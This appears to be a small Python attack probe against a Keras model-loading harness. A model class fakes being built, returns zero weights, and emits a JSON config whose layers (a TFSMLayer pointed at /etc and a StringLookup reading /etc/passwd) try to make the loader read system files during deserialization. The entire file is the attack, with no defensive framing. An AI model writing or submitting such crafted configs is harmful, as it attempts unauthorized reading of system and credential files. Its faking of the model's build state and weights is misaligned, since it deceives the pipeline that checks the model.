# tries: name layers that load what lies on the disk
import json

import keras
import numpy as np

INPUT = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 3], "name": "i"}}
DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "softmax"}}
LAYERS = [INPUT, {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/etc"}}, {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}]


class Claim(keras.Model):
    built = property(lambda self: True, lambda self, value: None)

    def to_json(self):
        return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": LAYERS}})

    def get_weights(self):
        return [np.zeros((3, 2), np.float32), np.zeros(2, np.float32)]


def build(x):
    return Claim()
